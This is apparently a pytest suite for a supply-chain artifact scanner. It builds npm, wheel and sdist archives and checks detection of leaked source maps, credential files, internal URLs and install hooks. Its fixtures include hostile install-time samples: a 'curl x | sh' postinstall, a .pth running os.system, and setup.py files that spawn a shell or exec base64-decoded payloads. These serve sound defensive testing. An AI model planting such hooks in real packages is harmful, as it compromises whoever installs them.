"""Each check, positive and negative, through the real scanner on archives built here."""

from __future__ import annotations

import base64
import io
import json
import tarfile
from pathlib import Path

import pytest

from tests.builders import npm_tarball, sdist, wheel
from watcher.model import Category, Finding, Severity
from watcher.scanning.checks.base import ScanOptions
from watcher.scanning.checks.locations import location_of
from watcher.scanning.scan import ScanRequest, compare_with_baseline, scan, scan_artifact

OPTIONS = ScanOptions(internal_domains=("corp.acme.example",))


def findings_of(path: Path, options: ScanOptions = OPTIONS) -> list[Finding]:
    return scan(ScanRequest(path, options=options)).findings


def by_rule(findings: list[Finding], rule: str) -> list[Finding]:
    return [f for f in findings if f.rule == rule]


def source_map(sources: list[str], contents: list[str] | None) -> str:
    doc: dict[str, object] = {"version": 3, "sources": sources, "mappings": "AAAA", "names": []}
    if contents is not None:
        doc["sourcesContent"] = contents
    return json.dumps(doc)


# -- source-map --------------------------------------------------------------------------------


def test_map_with_first_party_sources_counts_files_and_lines(tmp_path: Path) -> None:
    smap = source_map(
        [
            "webpack://app/./src/index.ts",
            "webpack://app/./src/util.ts",
            "webpack://app/./node_modules/lodash/lodash.js",
            "webpack/bootstrap",
        ],
        ["a\nb\nc", "d", "third\nparty", "runtime"],
    )
    findings = findings_of(npm_tarball(tmp_path / "p.tgz", {"dist/cli.js.map": smap}))
    [finding] = by_rule(findings, "sourcemap-embedded-sources")
    assert finding.category is Category.SOURCE_MAP
    assert finding.severity is Severity.CRITICAL  # new: no baseline says otherwise
    assert finding.path == "package/dist/cli.js.map"
    assert finding.evidence["first_party_files"] == 2
    assert finding.evidence["first_party_lines"] == 4
    assert finding.evidence["third_party_files"] == 2
    assert "2 first-party source files (4 lines)" in finding.message


def test_sources_from_the_publishers_own_scope_are_first_party(tmp_path: Path) -> None:
    """A monorepo bundle: `@acme/cli` embeds `@acme/core` from node_modules — that is Acme's own
    code. Judged even when package.json comes after the map in the tarball."""
    smap = source_map(
        [
            "../node_modules/@acme/core/src/auth.ts",
            "../node_modules/@other/lib/x.js",
            "../node_modules/@acme/core/node_modules/long/index.js",
            "../src/cli.ts",
        ],
        ["a\nb", "c", "d", "e"],
    ).encode()
    path = tmp_path / "p.tgz"
    with tarfile.open(path, "w:gz") as archive:
        for name, data in (
            ("package/dist/cli.js.map", smap),
            ("package/package.json", b'{"name": "@acme/cli", "version": "1.0.0"}'),
        ):
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))
    [finding] = by_rule(findings_of(path), "sourcemap-embedded-sources")
    assert finding.evidence["first_party_files"] == 2
    assert finding.evidence["examples"] == [
        "../node_modules/@acme/core/src/auth.ts",
        "../src/cli.ts",
    ]
    assert finding.evidence["first_party_lines"] == 3


def test_map_without_sources_content_is_info(tmp_path: Path) -> None:
    findings = findings_of(
        npm_tarball(tmp_path / "p.tgz", {"index.js.map": source_map(["src/a.ts"], None)})
    )
    assert [(f.rule, f.severity) for f in findings] == [("sourcemap-shipped", Severity.INFO)]


def test_maps_without_sources_content_are_one_summary_finding(tmp_path: Path) -> None:
    files = {f"dist/m{i}.js.map": source_map([f"src/m{i}.ts"], None) for i in range(30)}
    findings = findings_of(npm_tarball(tmp_path / "p.tgz", files))
    [finding] = findings
    assert finding.rule == "sourcemap-shipped" and finding.evidence["maps"] == 30
    assert finding.path == "package/dist/m0.js.map"


def test_map_with_only_third_party_sources_is_low(tmp_path: Path) -> None:
    smap = source_map(["../node_modules/react/index.js"], ["x"])
    findings = findings_of(npm_tarball(tmp_path / "p.tgz", {"vendor.js.map": smap}))
    assert [(f.rule, f.severity) for f in findings] == [
        ("sourcemap-third-party-sources", Severity.LOW)
    ]


def test_inline_data_url_map_is_found(tmp_path: Path) -> None:
    smap = source_map(["src/secret-algo.ts"], ["export const x = 1;\n"])
    payload = base64.b64encode(smap.encode()).decode()
    js = f"var x=1;\n//# sourceMappingURL=data:application/json;charset=utf-8;base64,{payload}\n"
    findings = findings_of(npm_tarball(tmp_path / "p.tgz", {"index.js": js}))
    [finding] = by_rule(findings, "sourcemap-embedded-sources-inline")
    assert finding.path == "package/index.js"
    assert finding.evidence["first_party_files"] == 1


def test_source_mapping_url_on_internal_host(tmp_path: Path) -> None:
    js = "x();\n//# sourceMappingURL=https://artifacts.corp.acme.example/maps/index.js.map\n"
    public = "y();\n//# sourceMappingURL=https://cdn.example.com/index.js.map\n"
    findings = findings_of(npm_tarball(tmp_path / "p.tgz", {"index.js": js, "public.js": public}))
    [finding] = by_rule(findings, "sourcemap-internal-url")
    assert finding.category is Category.INTERNAL_REFERENCE
    assert finding.path == "package/index.js" and finding.line == 2


def test_source_map_is_parsed_once_and_its_sources_are_scanned_by_other_checks(
    tmp_path: Path,
) -> None:
    smap = source_map(
        ["src/deploy.ts"], ["const url = 'https://jenkins.corp.acme.example/job/x';\n"]
    )
    findings = findings_of(npm_tarball(tmp_path / "p.tgz", {"dist/app.js.map": smap}))
    [internal] = by_rule(findings, "internal-url")
    assert internal.path == "package/dist/app.js.map → src/deploy.ts"
    assert internal.line == 1


# -- sensitive-file ----------------------------------------------------------------------------


NPM_TOKEN_LINE = "//registry.example/:_authToken=" + "Zx9" + "q" * 30 + "\n"


@pytest.mark.parametrize(
    ("member", "content", "rule", "severity"),
    [
        (".npmrc", NPM_TOKEN_LINE, "npmrc-file", Severity.CRITICAL),
        (".npmrc", "//registry.example/:_authToken=${NPM_TOKEN}\n", "npmrc-file", Severity.MEDIUM),
        (".env", "DATABASE_PASSWORD=hunter2hunter2\n", "dotenv-file", Severity.CRITICAL),
        (".env.production", "FEATURE_FLAG=1\n", "dotenv-file", Severity.HIGH),
        (
            "config/.pypirc",
            "[pypi]\nusername = __token__\npassword = pypi-abcdefgh\n",
            "pypirc-file",
            Severity.CRITICAL,
        ),
        (
            ".netrc",
            "machine example.com login me password s3cr3tpass\n",
            "netrc-file",
            Severity.CRITICAL,
        ),
        ("deploy/id_ed25519", "key", "private-key-file", Severity.CRITICAL),
        (
            "certs/server.pem",
            "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n",
            "key-material-file",
            Severity.LOW,
        ),
        (
            "certs/server.key",
            "-----BEGIN RSA PRIVATE KEY-----\nMIIB\n",
            "key-material-file",
            Severity.CRITICAL,
        ),
        ("android/release.jks", b"\xfe\xed\xfe\xed", "keystore-file", Severity.HIGH),
        ("infra/terraform.tfstate", "{}", "terraform-state", Severity.CRITICAL),
        ("infra/prod.tfvars", "x = 1", "terraform-vars", Severity.HIGH),
        (
            "ops/kubeconfig",
            "users:\n- name: a\n  user:\n    token: abc\n",
            "kubeconfig",
            Severity.CRITICAL,
        ),
        ("home/.aws/credentials", "[default]\n", "cloud-credentials-file", Severity.CRITICAL),
        (
            "keys/my-service-account.json",
            '{"type": "service_account", "private_key": "-----BEGIN PRIVATE KEY-----\\nabc"}',
            "service-account-json",
            Severity.CRITICAL,
        ),
        (".ssh/config", "Host *\n", "ssh-config", Severity.MEDIUM),
        ("backup/db.sql", "INSERT INTO users VALUES (1);\n", "database-dump", Severity.HIGH),
        ("data/app.sqlite3", b"SQLite format 3\x00" + bytes(100), "database-file", Severity.HIGH),
        ("src/index.js~", "x", "editor-backup-file", Severity.LOW),
        (".DS_Store", b"\x00\x00\x00\x01Bud1", "os-metadata-file", Severity.LOW),
        (".bash_history", "ls\n", "shell-history", Severity.HIGH),
        (
            ".git-credentials",
            "https://u:p@example.com\n",
            "git-credentials-file",
            Severity.CRITICAL,
        ),
        (".rollup.cache/tmp/publish/dist/index.js", "x", "build-cache", Severity.LOW),
        ("tsconfig.tsbuildinfo", "{}", "build-cache", Severity.LOW),
    ],
)
def test_sensitive_files(
    tmp_path: Path, member: str, content: str | bytes, rule: str, severity: Severity
) -> None:
    findings = findings_of(npm_tarball(tmp_path / "p.tgz", {member: content}))
    matched = [f for f in findings if f.category is Category.SENSITIVE_FILE]
    assert [(f.rule, f.severity, f.path) for f in matched] == [
        (rule, severity, f"package/{member}")
    ]


@pytest.mark.parametrize(
    "member",
    [
        ".env.example",
        ".env.sample",
        "src/env.ts",
        "README.md",
        "lib/key.js",
        "npmrc.md",
        "docs/keys.md",
    ],
)
def test_harmless_lookalikes_are_not_sensitive(tmp_path: Path, member: str) -> None:
    findings = findings_of(npm_tarball(tmp_path / "p.tgz", {member: "A=1\n"}))
    assert [f for f in findings if f.category is Category.SENSITIVE_FILE] == []


# -- vcs-metadata ------------------------------------------------------------------------------


def test_git_directory_is_one_finding_with_history_flag(tmp_path: Path) -> None:
    files = {
        ".git/HEAD": "ref: refs/heads/main\n",
        ".git/config": "[core]\n",
        ".git/objects/ab/cdef0123": b"x\x9c",
    }
    findings = findings_of(npm_tarball(tmp_path / "p.tgz", files))
    [finding] = [f for f in findings if f.category is Category.VCS_METADATA]
    assert finding.path == "package/.git/"
    assert finding.severity is Severity.HIGH
    assert finding.evidence["files"] == 3 and finding.evidence["history"] is True


def test_git_metadata_without_objects_is_medium_and_gitignore_is_nothing(tmp_path: Path) -> None:
    findings = findings_of(
        npm_tarball(tmp_path / "p.tgz", {".hg/hgrc": "[paths]\n", ".gitignore": "node_modules\n"})
    )
    [finding] = [f for f in findings if f.category is Category.VCS_METADATA]
    assert finding.path == "package/.hg/" and finding.severity is Severity.MEDIUM


# -- install-hook ------------------------------------------------------------------------------


def test_npm_install_scripts_and_binding_gyp(tmp_path: Path) -> None:
    path = npm_tarball(
        tmp_path / "p.tgz",
        {"binding.gyp": "{}", "index.js": "1"},
        package_json={
            "scripts": {"postinstall": "node setup.js", "test": "jest", "prepare": "tsc"}
        },
    )
    findings = [f for f in findings_of(path) if f.category is Category.INSTALL_HOOK]
    assert sorted((f.rule, f.severity) for f in findings) == [
        ("npm-install-script", Severity.HIGH),  # new without a baseline
        ("npm-native-build", Severity.HIGH),
    ]
    script = by_rule(findings, "npm-install-script")[0]
    assert script.evidence == {"script": "postinstall", "command": "node setup.js"}


def test_pth_in_wheel_with_code_and_without(tmp_path: Path) -> None:
    path = wheel(
        tmp_path,
        {
            "evil.pth": "import os; os.system('id')\n",
            "paths.pth": "extra/dir\n",
            "demo_pkg/x.pth": "import y\n",
        },
    )
    findings = [f for f in findings_of(path) if f.category is Category.INSTALL_HOOK]
    assert sorted((f.rule, f.path, f.severity) for f in findings) == [
        ("python-pth-code", "evil.pth", Severity.HIGH),
        ("python-pth-file", "paths.pth", Severity.LOW),
    ]


def test_setup_py_with_network_calls(tmp_path: Path) -> None:
    evil = "import urllib.request, subprocess\nurllib.request.urlopen('http://x')\nsubprocess.run(['sh'])\nsetup()\n"
    findings = findings_of(sdist(tmp_path, {"setup.py": evil}))
    [finding] = by_rule(findings, "setup-py-side-effects")
    assert "urlopen" in finding.message and "subprocess." in finding.evidence["calls"]
    clean = findings_of(
        sdist(
            tmp_path / "..", {"setup.py": "from setuptools import setup\nsetup()\n"}, name="clean"
        )
    )
    assert by_rule(clean, "setup-py-side-effects") == []


# -- internal-reference ------------------------------------------------------------------------


def test_internal_urls_private_ips_and_home_paths(tmp_path: Path) -> None:
    js = (
        "fetch('https://api.corp.acme.example/v1');\n"
        "const db = 'http://10.1.2.3:5432/x';\n"
        "const meta = 'http://169.254.169.254/latest';\n"
        "const ok = 'https://example.com/a', local = 'http://localhost:3000', pub = 'http://8.8.8.8/';\n"
        "//# built in /Users/alice/work/app/src\n"
        "// C:\\\\Users\\\\bob\\\\proj\\\\x.js and /home/runner/work/x (a CI runner)\n"
        "// see [ISO 4217](https://www.iso.org/iso/home/standards/currency_codes.htm)\n"
    )
    findings = findings_of(npm_tarball(tmp_path / "p.tgz", {"index.js": js}))
    internal = sorted(
        (f.rule, f.line) for f in findings if f.category is Category.INTERNAL_REFERENCE
    )
    assert internal == [
        ("home-directory-path", 5),
        ("home-directory-path", 6),
        ("internal-url", 1),
        ("internal-url", 2),
        ("internal-url", 3),
    ]


def test_internal_domain_match_is_by_suffix_not_substring(tmp_path: Path) -> None:
    js = "a('https://corp.acme.example.evil.com/'); b('https://notcorp.acme.example.com/')\n"
    findings = findings_of(npm_tarball(tmp_path / "p.tgz", {"index.js": js}))
    assert by_rule(findings, "internal-url") == []


# -- baseline: new vs old, severity rise, size and content -------------------------------------


def test_baseline_marks_old_findings_and_keeps_their_lower_severity(tmp_path: Path) -> None:
    smap = source_map(["src/a.ts"], ["x\n"])
    before = npm_tarball(tmp_path / "a.tgz", {"a.js.map": smap, ".DS_Store": "x"}, version="1.0.0")
    after = npm_tarball(
        tmp_path / "b.tgz",
        {"a.js.map": smap, ".DS_Store": "x", ".npmrc": NPM_TOKEN_LINE},
        version="1.0.1",
    )
    report = scan(ScanRequest(after, options=OPTIONS), ScanRequest(before, options=OPTIONS))
    assert report.baseline is not None and report.baseline.version == "1.0.0"
    state = {f.rule: (f.new, f.severity) for f in report.findings}
    assert state["sourcemap-embedded-sources"] == (
        False,
        Severity.HIGH,
    )  # shipped before: not critical
    assert state["os-metadata-file"] == (False, Severity.LOW)
    assert state["npmrc-file"] == (True, Severity.CRITICAL)


def test_fingerprints_survive_version_in_path(tmp_path: Path) -> None:
    """A wheel's dist-info directory carries the version; the same file must match across releases."""
    a = wheel(tmp_path, {"demo_pkg-1.0.0.dist-info/.DS_Store": "x"}, version="1.0.0")
    b = wheel(tmp_path, {"demo_pkg-1.0.1.dist-info/.DS_Store": "x"}, version="1.0.1")
    report = scan(ScanRequest(b), ScanRequest(a))
    [finding] = by_rule(report.findings, "os-metadata-file")
    assert finding.new is False


def test_changed_install_script_counts_as_new(tmp_path: Path) -> None:
    before = npm_tarball(
        tmp_path / "a.tgz", {}, package_json={"scripts": {"postinstall": "node a.js"}}
    )
    after = npm_tarball(
        tmp_path / "b.tgz",
        {},
        version="1.0.1",
        package_json={"scripts": {"postinstall": "curl x | sh"}},
    )
    report = scan(ScanRequest(after), ScanRequest(before))
    [finding] = by_rule(report.findings, "npm-install-script")
    assert finding.new is True and finding.severity is Severity.HIGH
    same = scan(ScanRequest(before), ScanRequest(before))
    [old] = by_rule(same.findings, "npm-install-script")
    assert old.new is False and old.severity is Severity.MEDIUM


def test_size_growth_and_new_kinds_of_content(tmp_path: Path) -> None:
    before = npm_tarball(tmp_path / "a.tgz", {"index.js": "x" * 1000, "index.d.ts": "export {}"})
    grown = {
        "index.js": "x" * 1000,
        "index.d.ts": "export {}",
        "dist/bundle.js": b"y" * (8 * 1024 * 1024),
    }
    grown |= {f"src/m{i}.ts": "export const a = 1;\n" for i in range(60)}
    grown |= {"coverage/lcov.info": "TN:\n", "test/a.test.js": "it()"}
    after = npm_tarball(tmp_path / "b.tgz", grown, version="1.0.1")
    report = scan(ScanRequest(after), ScanRequest(before))
    size = sorted(f.rule for f in report.findings if f.category is Category.SIZE_ANOMALY)
    assert size == ["file-count-growth", "unpacked-size-growth"]
    kinds = {
        f.evidence["kind"]: f.evidence["files"]
        for f in report.findings
        if f.category is Category.UNEXPECTED_CONTENT
    }
    assert kinds == {"TypeScript sources": 60, "coverage reports": 1, "tests": 1}
    # .d.ts was shipped before and is not a "TypeScript source"; nothing compares without a baseline.
    alone = scan(ScanRequest(after))
    assert not [
        f
        for f in alone.findings
        if f.category in (Category.SIZE_ANOMALY, Category.UNEXPECTED_CONTENT)
    ]


def test_same_content_twice_has_no_size_or_content_findings(tmp_path: Path) -> None:
    files = {"index.js": "x", "src/a.ts": "y"}
    a = npm_tarball(tmp_path / "a.tgz", files)
    b = npm_tarball(tmp_path / "b.tgz", files, version="1.0.1")
    report = scan(ScanRequest(b), ScanRequest(a))
    assert [
        f
        for f in report.findings
        if f.category in (Category.SIZE_ANOMALY, Category.UNEXPECTED_CONTENT)
    ] == []


def test_report_identity_and_manifest(tmp_path: Path) -> None:
    path = npm_tarball(tmp_path / "p.tgz", {"a.js": "1"}, name="@acme/cli", version="2.3.4")
    report = compare_with_baseline(scan_artifact(ScanRequest(path)), None)
    assert (report.target.ecosystem, report.target.name, report.target.version) == (
        "npm",
        "@acme/cli",
        "2.3.4",
    )
    assert report.target.files == 2
    assert set(report.manifest.files) == {"package/package.json", "package/a.js"}
    assert len(report.target.sha256) == 64
    sd = scan_artifact(ScanRequest(sdist(tmp_path, {"x.py": "1"}, name="acme_sdk", version="0.9")))
    assert (sd.target.ecosystem, sd.target.name, sd.target.version) == ("pypi", "acme_sdk", "0.9")
    assert "{version}" in next(iter(sd.manifest.files))  # acme_sdk-0.9/ made stable


# -- precision on shapes met in popular packages (docs/precision.md) ----------------------------


@pytest.mark.parametrize(
    ("path", "location"),
    [
        ("requests-2.0.tar.gz/requests-2.0/tests/certs/valid/server.key", "tests"),
        ("package/src/__tests__/a.ts", "tests"),
        ("package/lib/client.spec.js", "tests"),
        ("pkg-1.0/test_api.py", "tests"),
        ("package/dist/app.js.map → ../test/fixtures/x.ts", "tests"),
        ("pkg-1.0/docs/usage.rst", "docs"),
        ("package/README.md", "docs"),
        ("botocore/data/ec2/2016-11-15/examples-1.json", "docs"),
        ("package/apis/s3-2006-03-01.examples.json", "docs"),
        ("package/dist/index.js", None),
        ("pkg/contest/latest.py", None),
        ("package/lib/attestation.js", None),
        # layouts of popular projects across ecosystems
        ("package/e2e/login.ts", "tests"),
        ("package/cypress/support/commands.js", "tests"),
        ("go-mod/internal/store/testdata/creds.json", "tests"),
        ("go-mod/internal/store/store_test.go", "tests"),
        ("perl-lib/t/basic.t", "tests"),
        ("lib/src/it/java/acme/ClientIT.java", "tests"),
        ("lib/src/main/java/acme/ClientTest.java", "tests"),
        ("Acme.Client.Tests/Settings.json", "tests"),
        ("acme/tests.py", "tests"),
        ("acme/api_tests.py", "tests"),
        ("gem/spec/client_spec.rb", "tests"),
        ("package/src/__mocks__/fs.js", "tests"),
        ("package/src/__snapshots__/a.snap", "tests"),
        ("package/src/testutils/keys.ts", "tests"),
        ("package/vendor/old.tgz!package/test/key.pem", "tests"),
        ("package/src/features/auth/token.ts", None),  # React feature folders are app code
        ("package/locales/it/messages.json", None),  # a locale, not Maven's src/it
        ("lib/src/main/java/acme/Latest.java", None),
        ("lib/src/main/java/acme/Edit.java", None),
        ("package/api-specs/openapi.yaml", None),
    ],
)
def test_location_of_paths(path: str, location: str | None) -> None:
    found = location_of(path)
    assert (found.value if found else None) == location


PEM_KEY = "-----BEGIN " + "RSA PRIVATE KEY-----\nMIIB\n"


@pytest.mark.parametrize(
    ("member", "content", "rule", "severity"),
    [
        ("tests/certs/server.key", PEM_KEY, "key-material-file", Severity.MEDIUM),
        ("tests/test_apps/.env", "FOO=env\n", "dotenv-file", Severity.LOW),
        (
            "examples/tutorial/tests/data.sql",
            "INSERT INTO user VALUES (1);\n",
            "database-dump",
            Severity.LOW,
        ),
        ("tests/data/privatekey.p12", b"\x30\x82", "keystore-file", Severity.LOW),
        ("tests/skel/.ssh/known_hosts", "host ssh-ed25519 AAAA\n", "ssh-config", Severity.LOW),
        # a certificate stays low: the test location never raises a rule
        (
            "tests/certs/ca.pem",
            "-----BEGIN CERTIFICATE-----\nMIIB\n",
            "key-material-file",
            Severity.LOW,
        ),
        # what is a leak even in a test directory keeps its severity
        (
            "tests/.git-credentials",
            "https://u:p@git.acme-corp.io\n",
            "git-credentials-file",
            Severity.CRITICAL,
        ),
    ],
)
def test_sensitive_files_in_tests_are_flagged_not_paged(
    tmp_path: Path, member: str, content: str | bytes, rule: str, severity: Severity
) -> None:
    findings = findings_of(sdist(tmp_path, {member: content}))
    [finding] = by_rule(findings, rule)
    assert finding.severity is severity
    assert finding.evidence["in_test_path"] is True


def test_ansible_vault_file_by_content_not_by_name(tmp_path: Path) -> None:
    doc = "DOCUMENTATION:\n  name: vault\n  positional: secret\n  options:\n    secret:\n      description: the key\n"
    vaulted = "$ANSIBLE_VAULT;1.1;AES256\n" + "6331" * 20 + "\n"
    plain = "db_password: " + "hunter" + "2hunter2\n"
    files = {
        "plugins/filter/vault.yml": doc,
        "group_vars/prod/vault.yml": vaulted,
        "group_vars/stage/vault.yaml": plain,
    }
    findings = findings_of(wheel(tmp_path, files))
    severity = {f.path: f.severity for f in by_rule(findings, "ansible-vault-file")}
    assert severity == {
        "plugins/filter/vault.yml": Severity.LOW,
        "group_vars/prod/vault.yml": Severity.HIGH,
        "group_vars/stage/vault.yaml": Severity.HIGH,
    }


def test_internal_url_severity_follows_what_the_host_reveals(tmp_path: Path) -> None:
    js = (
        "a('https://api.corp.acme.example/v1');\n"
        "b('http://10.1.2.3:5432/x');\n"
        "c('http://169.254.169.254/latest/meta-data/');\n"
        "d('http://metadata.google.internal/computeMetadata/v1/');\n"
        "e('https://build.corp/ci');\n"
    )
    findings = findings_of(npm_tarball(tmp_path / "p.tgz", {"index.js": js}))
    got = sorted(
        (f.line, f.severity, f.evidence["host_kind"]) for f in by_rule(findings, "internal-url")
    )
    assert got == [
        (1, Severity.MEDIUM, "configured"),
        (2, Severity.LOW, "private"),
        (3, Severity.INFO, "well-known"),
        (4, Severity.INFO, "well-known"),
        (5, Severity.MEDIUM, "reserved-name"),
    ]


def test_documentation_addresses_and_loopback_names_are_not_internal(tmp_path: Path) -> None:
    js = (
        "a('http://192.0.2.1/some/test'); b('http://198.51.100.7/'); c('http://203.0.113.9/');\n"
        "d('http://[2001:db8::1]/'); e('http://255.255.255.255'); f('http://localhost.localdomain:5000/');\n"
        "g('http://test.localhost.localdomain/'); h('http://app.localhost:3000/');\n"
    )
    findings = findings_of(npm_tarball(tmp_path / "p.tgz", {"index.js": js}))
    assert by_rule(findings, "internal-url") == []


def test_internal_urls_in_tests_are_low_unless_on_the_teams_domain(tmp_path: Path) -> None:
    test = "URL = 'https://wiki.internal/'\nDB = 'https://db.corp.acme.example/'\nIP = 'http://10.0.0.5/'\n"
    findings = findings_of(sdist(tmp_path, {"tests/test_tools.py": test}))
    got = sorted((f.line, f.severity) for f in by_rule(findings, "internal-url"))
    assert got == [(1, Severity.LOW), (2, Severity.MEDIUM), (3, Severity.LOW)]
    assert all(f.evidence["in_test_path"] for f in by_rule(findings, "internal-url"))


def test_webpack_runtime_under_a_namespace_is_not_first_party(tmp_path: Path) -> None:
    smap = source_map(
        [
            "webpack://pdf.js/webpack/bootstrap",
            "webpack://pdf.js/webpack/runtime/define property getters",
            "webpack://lib/../cjs/tslib/tslib.es6.js",
            "webpack://pdf.js/./src/core/parser.js",
        ],
        ["a\n", "b\n", "c\n", "d\ne\n"],
    )
    findings = findings_of(npm_tarball(tmp_path / "p.tgz", {"build/pdf.mjs.map": smap}))
    [finding] = by_rule(findings, "sourcemap-embedded-sources")
    assert finding.evidence["first_party_files"] == 1
    assert finding.evidence["examples"] == ["webpack://pdf.js/./src/core/parser.js"]


def test_map_of_sources_the_package_also_ships_is_low(tmp_path: Path) -> None:
    """axios ships lib/ and dist/axios.min.js.map embedding ../lib/*: nothing more is disclosed."""
    smap = source_map(["../lib/utils.js", "../lib/core/Axios.js"], ["u\n", "a\nb\n"])
    files = {"lib/utils.js": "u\n", "lib/core/Axios.js": "a\nb\n", "dist/axios.min.js.map": smap}
    findings = findings_of(npm_tarball(tmp_path / "p.tgz", files))
    assert by_rule(findings, "sourcemap-embedded-sources") == []
    [finding] = by_rule(findings, "sourcemap-embedded-shipped-sources")
    assert finding.severity is Severity.LOW
    assert finding.evidence["first_party_files_shipped"] == 2


def test_map_of_partly_shipped_sources_counts_only_the_unshipped(tmp_path: Path) -> None:
    smap = source_map(
        ["webpack://app/./lib/utils.js", "webpack://app/./src/secret-algo.ts"], ["u\n", "s\n"]
    )
    files = {"lib/utils.js": "u\n", "dist/app.js.map": smap}
    findings = findings_of(npm_tarball(tmp_path / "p.tgz", files))
    [finding] = by_rule(findings, "sourcemap-embedded-sources")
    assert finding.severity is Severity.CRITICAL
    assert finding.evidence["first_party_files"] == 1
    assert finding.evidence["first_party_files_shipped"] == 1
    assert finding.evidence["examples"] == ["webpack://app/./src/secret-algo.ts"]


def test_setup_py_reading_its_version_file_is_no_side_effect(tmp_path: Path) -> None:
    idiom = (
        "version = {}\nwith open('pkg/version.py') as fp:\n    exec(fp.read(), version)\n"
        "exec(open(os.path.join(here, 'pkg', '__about__.py')).read(), about)\nsetup()\n"
    )
    findings = findings_of(sdist(tmp_path, {"setup.py": idiom}))
    assert by_rule(findings, "setup-py-side-effects") == []
    evil = "import base64\nexec(base64.b64decode(PAYLOAD))\nsetup()\n"
    findings = findings_of(sdist(tmp_path / "..", {"setup.py": evil}, name="evil"))
    [finding] = by_rule(findings, "setup-py-side-effects")
    assert "exec(" in finding.evidence["calls"]


def test_ci_runner_and_placeholder_home_directories_name_nobody(tmp_path: Path) -> None:
    js = (
        "// C:\\Users\\runneradmin\\work\\x.js /Users/runneradmin/work/y\n"
        "// C:\\Users\\myusername\\proj /home/myuser/proj\n"
        "// /home/gord/certs/ca.pem\n"
    )
    findings = findings_of(npm_tarball(tmp_path / "p.tgz", {"index.js": js}))
    assert [f.line for f in by_rule(findings, "home-directory-path")] == [3]
